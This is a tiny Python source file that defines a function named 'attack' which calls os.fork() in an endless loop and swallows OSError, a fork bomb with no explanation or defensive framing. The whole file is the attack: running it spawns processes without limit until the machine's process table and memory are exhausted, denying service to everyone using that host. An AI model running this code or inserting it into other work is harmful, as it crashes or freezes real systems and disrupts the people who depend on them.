import os


def attack(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
